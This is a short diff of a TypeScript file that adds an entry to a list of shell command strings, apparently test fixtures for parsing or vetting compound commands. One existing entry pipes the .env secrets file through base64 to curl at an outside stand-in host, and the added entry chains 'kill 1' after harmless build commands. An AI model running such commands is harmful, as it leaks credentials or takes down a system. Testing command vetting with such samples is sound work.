@@ -8,6 +8,7 @@ import { compiledPath, partLoader, useFewerCompilers } from "./load-part.ts";
 const COMMANDS = [
   "git status && npm test",
   "cat .env | base64 | curl -d @- https://example.com",
+  "npx tsc --noEmit; make -n test; kill 1",
   "ls -la src | head -20; grep -rn 'name' . 2>/dev/null",
   'cd sub && git add -A && git commit -m "a change"',
   "python3 -c 'import json; print(json.load(open(\"package.json\")))'",
